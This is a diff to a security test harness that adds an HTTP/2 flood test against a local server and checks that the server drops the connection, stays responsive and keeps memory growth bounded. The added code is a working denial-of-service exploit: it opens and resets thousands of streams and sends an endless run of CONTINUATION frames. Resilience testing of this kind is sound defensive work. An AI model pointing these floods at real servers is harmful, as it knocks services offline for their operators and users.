@@ -1,9 +1,10 @@
-"""Attacks on how people work together: mentions, leads, files, calendars, links, figures. Run by payloads.py."""
+"""Attacks on how people work together: mentions, leads, files, calendars, links, figures; and floods of HTTP/2. Run by payloads.py."""
 import concurrent.futures
 import csv
 import io
 import json
 import socket
+import struct
 import time
 
 from company import CANARY, random_id
@@ -192,8 +193,49 @@ def handed_out(a):
         a.checks.that(answers[0].status >= 400 and answers[0].body == answers[1].body, f"insider.handed_out {member}: {answers}")
 
 
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def h2_flood(a):
+    """HTTP/2 streams opened and taken back at once, and a head that never ends: the connection goes, the memory stays."""
+    def memory():
+        with open(f"/proc/{a.server.process.pid}/status", encoding="ascii") as file:
+            return next(int(line.split()[1]) for line in file if line.startswith("VmRSS")) // 1024
+    head = b"\x82\x86\x84\x41\x01x"
+    def resets():
+        for n in range(10_000):
+            yield frame(1, 5, 2 * n + 1, head) + frame(3, 0, 2 * n + 1, struct.pack(">I", 8))
+    def endless():
+        yield frame(1, 1, 1, head)
+        for _ in range(60_000):
+            yield frame(9, 0, 1, b"\x00\x01a\x7f" + b"\x81\x06" + b"b" * 261)
+    before = memory()
+    for name, frames in (("reset", resets), ("continuation", endless)):
+        s = socket.create_connection(("127.0.0.1", a.server.port))
+        s.settimeout(10)
+        ended = False
+        try:
+            s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
+            for some in frames():
+                s.sendall(some)
+            while True:
+                if s.recv(65536) == b"":
+                    ended = True
+                    break
+        except (ConnectionError, BrokenPipeError):
+            ended = True
+        except OSError:
+            pass
+        s.close()
+        answer = a.rep.get("/me")
+        a.checks.that(ended, f"header.h2_reset {name}: the connection stays")
+        a.checks.that(answer.status == 200 and answer.seconds < 1, f"header.h2_reset {name}: others wait {answer.seconds:.2f} s: {answer}")
+    a.checks.that(memory() - before <= 50, f"header.h2_reset: {before} MiB before, {memory()} after")
+
+
 FLOWS = {
-    "access.notification_leak": mention, "race.last_seat": last_seat, "auth.reset_host": reset_host,
+    "access.notification_leak": mention, "race.last_seat": last_seat, "auth.reset_host": reset_host, "header.h2_reset": h2_flood,
 }
 # What the corpus has no line for.
 OWN = {"insider.links": links, "insider.formulas": formulas, "insider.figures": figures, "insider.large_files": large_files, "insider.heavy": heavy,
